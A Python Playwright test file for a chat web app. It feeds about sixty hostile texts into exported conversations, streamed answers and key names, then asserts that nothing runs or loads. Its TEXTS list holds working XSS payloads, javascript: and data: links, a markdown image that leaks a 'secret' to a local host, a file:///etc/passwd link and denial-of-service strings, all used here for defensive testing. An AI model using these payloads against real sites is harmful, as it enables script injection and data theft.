"""Texts that would run something, wherever somebody else can put one: they are shown, and nothing else happens."""

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

from server.test_admin import Operated, operated
from support.clients.browsers import Visitor, holds

if TYPE_CHECKING:
    from playwright.async_api import Page

_RUN = "window.ran = true"
#: What an answer may hold.
TEXTS = [
    f"<script>{_RUN}</script>",
    f"<img src=x onerror='{_RUN}'>",
    f"<svg onload='{_RUN}'></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src='javascript:{_RUN}'>",
    "<base href='http://127.0.0.2:9/'><script src=x></script>",
    "<link rel=stylesheet href='http://127.0.0.2:9/x.css'>",
    "<style>@import 'http://127.0.0.2:9/x.css'; body { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.2:9/'>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
    f"<details open ontoggle='{_RUN}'>",
    f"<body onload='{_RUN}'>",
    f"<math><mtext><img src=x onerror='{_RUN}'></mtext></math>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a](java\tscript:{_RUN})",
    f"[a](\x01javascript:{_RUN})",
    f"[a](javascript&colon;{_RUN})",
    f"[a](&#106;avascript:{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>)",
    f"[a](vbscript:{_RUN})",
    "[a](file:///etc/passwd)",
    "[a](blob:http://127.0.0.2/1)",
    f"[a][b]\n\n[b]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    "![x](http://127.0.0.2:9/leak?q=secret)",
    f"![x](javascript:{_RUN})",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    f"[![x](http://127.0.0.2:9/x.png)](javascript:{_RUN})",
    f"`<script>{_RUN}</script>`",
    f"```html\n<script>{_RUN}</script>\n```",
    f"```<img src=x onerror={_RUN}>\ntext\n```",
    f"| <img src=x onerror={_RUN}> | b |\n|---|---|\n| <script>{_RUN}</script> | 2 |",
    f"# <img src=x onerror={_RUN}>",
    f"> <img src=x onerror={_RUN}>",
    f"- <img src=x onerror={_RUN}>",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f'```mermaid\ngraph TD; A["<img src=x onerror={_RUN}>"]-->B\n```',
    "\u202etxt.exe\u202c and \u2066hidden\u2069",
    "half \ud800 and \udfff surrogates",
    "\x00\x01\x02\x1b[31mred\x1b[0m\x7f",
    f"</div></article></main><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"';{_RUN};//",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "[" * 5000,
    "*" * 5000,
    "`" * 5001,
    "> " * 5000 + "x",
    "|" * 5000 + "\n|-|",
    "a" * 100_000,
    "\u0301" * 5000,
    f"<a href='javascript:{_RUN}' style='position:fixed;inset:0'>x</a>",
    f"<xss id=x tabindex=1 onfocus={_RUN} autofocus></xss>",
]
#: Words, as names of keys have to be.
_NAMES = [
    "<img/src=x/onerror=window.ran=1>",
    "javascript:window.ran=1",
    "'\"><svg/onload=window.ran=1>",
]


def export(texts: list[str]) -> str:
    """The texts as a conversation that another page has exported: asked, answered, and as results and calls of tools."""
    nodes: dict[str, Any] = {}
    parent = None
    for at, text in enumerate(texts):
        for role in ("user", "assistant"):
            name = f"n{at}{role}"
            node = {
                "role": role,
                "content": text,
                "thoughts": text,
                "model": text[:80],
                "parent": parent,
                "at": at,
                "state": "failed",
                "error": {"message": text[:200]},
            }
            calls = (
                [{"id": "c", "name": text[:60], "arguments": text[:200]}]
                if role == "assistant" and at % 5 == 0
                else []
            )
            nodes[name] = node | {
                "calls": calls,
                "tokens": [],
                "images": [f"javascript:{_RUN}"] if at % 9 == 0 else [],
            }
            parent = name
    return json.dumps(
        {
            "id": "hostile",
            "title": texts[0],
            "at": 1,
            "leaf": parent,
            "nodes": nodes,
            "settings": {},
        }
    )


async def _ran(page: "Page") -> bool:
    return bool(await page.evaluate("'ran' in window"))


async def test_sixty_answers(visitor: Visitor, tmp_path: Path) -> None:
    """Sixty texts, in each place of a conversation, run nothing, load nothing and break no policy."""
    assert len(TEXTS) >= 60
    (tmp_path / "hostile.json").write_text(export(TEXTS))
    async with operated(tmp_path) as server:
        page = await visitor.open(f"{server.url}/")
        await page.set_input_files("input[type=file][accept*=json]", tmp_path / "hostile.json")
        await page.click(".history li a")
        await holds(page, f"document.querySelectorAll('.message').length === {2 * len(TEXTS)}")
        links = await page.evaluate(
            "[...document.querySelectorAll('main a[href]')].map((one) => one.protocol)"
        )
        bad = await page.evaluate(
            "document.querySelectorAll('main :is(script, iframe, object, embed, form form, svg script, style, link, base, meta)').length"
        )
        assert not await _ran(page)

    assert {"http:", "https:", "mailto:"} >= set(links)
    assert 0 == bad


async def test_an_answer_that_comes(visitor: Visitor, tmp_path: Path) -> None:
    """The same as it comes, in pieces, from a model that says it."""
    text = "\n\n".join(one for one in TEXTS if len(one) < 1000 and one.isprintable())
    async with operated(
        tmp_path,
        f"[models.evil]\nsource = 'echo:'\noptions = {{ text = {json.dumps(text)}, tokens_per_s = 4000.0 }}\n",
    ) as server:
        page = await visitor.open(f"{server.url}/")
        await page.wait_for_selector("select.model option", state="attached")
        await page.fill("#composer", "Go")
        await page.press("#composer", "Enter")
        await page.wait_for_selector(".message.assistant footer")
        assert not await _ran(page)


async def test_names(visitor: Visitor, tmp_path: Path) -> None:
    """Names of keys and owners, a title, and what upstreams and engines say are texts, too."""
    async with operated(
        tmp_path, options="[page]\ntitle = '<img src=x onerror=window.ran=1>'\n"
    ) as server:
        for name in _NAMES:
            status, _ = await server.ask("POST", "/keys", {"name": name, "owner": name})
            assert 201 == status
        await server.client.post(
            f"{server.url}/v1/chat/completions",
            json={"model": _NAMES[0], "messages": [{"role": "user", "content": "x"}]},
        )
        page = await _operators(visitor, server)
        await page.wait_for_selector("td:has-text('404')")
        await page.click("nav a[href='#keys']")
        await page.wait_for_selector("td:has-text('onerror')")
        assert "<img" in await page.inner_text(".brand")
        assert not await _ran(page)


async def _operators(visitor: Visitor, server: Operated) -> "Page":
    _, told = await server.ask("GET", "/page")
    return await visitor.open(f"{server.url}/#{told['url'].partition('#')[2]}")
